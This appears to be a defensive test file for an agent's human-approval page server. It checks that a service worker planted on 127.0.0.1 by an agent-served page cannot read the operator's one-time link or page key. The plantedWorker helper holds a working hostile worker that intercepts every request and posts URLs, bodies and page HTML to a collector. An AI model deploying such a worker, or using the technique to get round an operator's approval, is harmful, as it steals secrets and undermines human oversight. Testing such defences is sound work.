/**
 * The approval page's origin in real Chromium: a service worker that a page
 * the agent served on 127.0.0.1:<port> registered (a dev server the operator
 * opened) stays bound to that origin and intercepts every later navigation to
 * it, whatever program listens on the port by then. When the page server is
 * handed that port, the worker must not see the one-time link or the page (it
 * would read the page key and answer with the page's own cookie and Origin):
 * the page is served on a random loopback address instead (page-address.ts).
 * Where the page server falls back to 127.0.0.1 itself, the worker still
 * sees the link's request (nothing the server answers reaches the browser
 * before it), but the link's answer clears the origin's storage and with it
 * the worker (`Clear-Site-Data`): it sees neither the page nor its requests.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { ApprovalPageServer } from "../../src/approval/page-server.js";
import { ApprovalStore } from "../../src/state/approval-store.js";
import { newPageSecret, pageSecretDigest } from "../../src/state/page-secret.js";
import { launchChromium } from "../support/chromium.js";
import { tempDirectory } from "../support/temp-dirs.js";

const ID = "0123456789abcdef";
let browser: BrowserContext;

beforeAll(async () => {
  browser = await launchChromium({});
});

afterAll(async () => {
  await browser.close();
});

function listen(server: Server, port = 0): Promise<number> {
  return new Promise((resolve) => server.listen(port, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)));
}

function closed(server: Server): Promise<void> {
  server.closeAllConnections();
  return new Promise((resolve) => server.close(() => resolve()));
}

/**
 * What a page the agent served on 127.0.0.1 leaves behind: a service worker on `127.0.0.1:<port>` that reports
 * every request it intercepts (a navigation with the HTML it got), and forwards it. Returns the port (free again,
 * for the page server to be handed) and what the worker reported.
 */
async function plantedWorker(): Promise<{ readonly port: number; readonly seen: string[]; readonly stop: () => Promise<void> }> {
  const seen: string[] = [];
  const reports = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
    request.on("end", () => {
      // The browser's own request for the origin's icon (made for the planting page, at a moment of the browser's
      // choosing, before or while the operator's page loads) carries nothing of the page: not counted.
      if (new URL(body.split("\n")[0] ?? "", "http://127.0.0.1").pathname !== "/favicon.ico") seen.push(body);
      response.writeHead(204, { "access-control-allow-origin": "*" });
      response.end();
    });
  });
  const reportPort = await listen(reports);
  const worker = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  event.respondWith((async () => {
    const request = event.request.clone();
    const sent = event.request.mode === "navigate" || event.request.method === "GET" ? "" : await request.text();
    const response = await fetch(event.request);
    const text = event.request.mode === "navigate" ? await response.clone().text() : "";
    await fetch("http://127.0.0.1:${reportPort}/", { method: "POST", mode: "no-cors", body: event.request.url + "\\n" + sent + text });
    return response;
  })());
});`;
  const agent = createServer((request, response) => {
    if (request.url === "/sw.js") {
      response.writeHead(200, { "content-type": "text/javascript" });
      response.end(worker);
      return;
    }
    response.writeHead(200, { "content-type": "text/html" });
    response.end(
      '<!doctype html><script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "ready"; });</script>',
    );
  });
  const port = await listen(agent);
  const agentPage = await browser.newPage();
  await agentPage.goto(`http://127.0.0.1:${port}/`);
  await agentPage.waitForFunction('document.title === "ready"');
  await agentPage.close();
  await closed(agent);
  return { port, seen, stop: () => closed(reports) };
}

/** A pending approval `ID` in a fresh store, served by `server`: the one-time link to its page. */
async function pendingPage(server: ApprovalPageServer, render: (pageKey: string) => string): Promise<string> {
  const store = new ApprovalStore(tempDirectory("torii-origin-"));
  const page = await server.add({
    id: ID,
    csrf: "csrf-of-this-page",
    render: ({ pageKey }) => render(pageKey),
    consume: (secret) => store.consumePageSecret(ID, secret),
    unoffered: () => undefined,
    answer: () => Promise.resolve({ status: 200, message: "" }),
  });
  const secret = newPageSecret();
  const now = Date.now();
  await store.create({
    id: ID,
    kind: "call",
    tool: "rec",
    argv: ["deploy"],
    page,
    page_secrets: [pageSecretDigest(secret)],
    created_at: new Date(now).toISOString(),
    expires_at: new Date(now + 60_000).toISOString(),
  });
  return `${page}/${secret}`;
}

test("a service worker another page registered on 127.0.0.1 at the page server's port sees neither the link nor the page", async () => {
  const planted = await plantedWorker();
  // The page server is handed the port the agent's server held.
  const server = new ApprovalPageServer({ port: planted.port, settleMs: 0 });
  try {
    const link = await pendingPage(
      server,
      (pageKey) => `<!doctype html><title>approval</title><meta name="torii-page-key" content="${pageKey}"><p id="shown">the page</p>`,
    );
    const operator = await browser.newPage();
    await operator.goto(link);
    // The worker reports before it hands the page over: once the page is shown, a worker that saw it has reported.
    await operator.waitForSelector("#shown");
    expect(planted.seen).toEqual([]);
    await operator.close();
  } finally {
    await server.close();
    await planted.stop();
  }
});

test("on the 127.0.0.1 fallback the worker sees the link's request, but the link's answer removes it: it sees neither the page, its key nor the page's own requests", async () => {
  const planted = await plantedWorker();
  // Where no other loopback address can be bound (macOS), the page server listens on 127.0.0.1 itself.
  const server = new ApprovalPageServer({ port: planted.port, settleMs: 0, address: () => "127.0.0.1" });
  try {
    let key = "";
    const link = await pendingPage(server, (pageKey) => {
      key = pageKey;
      return `<!doctype html><title>approval</title><meta name="torii-page-key" content="${pageKey}"><p id="shown">the page</p>`;
    });
    expect(new URL(link).host).toBe(`127.0.0.1:${planted.port}`);
    const operator = await browser.newPage();
    await operator.goto(link);
    await operator.waitForSelector("#shown");
    // The page's own request (its script), which a worker still in place would see and report before answering.
    const script = `${new URL(link).pathname.replace(/\/[^/]+$/u, "")}/page.js`;
    expect(await operator.evaluate(async (target) => (await fetch(target)).status, script)).toBe(200);
    // What nothing the server sends can prevent: the worker intercepted the navigation to the link itself.
    expect(planted.seen.map((report) => report.split("\n")[0])).toEqual([link]);
    expect(key).not.toBe("");
    expect(planted.seen.join("\n")).not.toContain(key);
    await operator.close();
  } finally {
    await server.close();
    await planted.stop();
  }
});
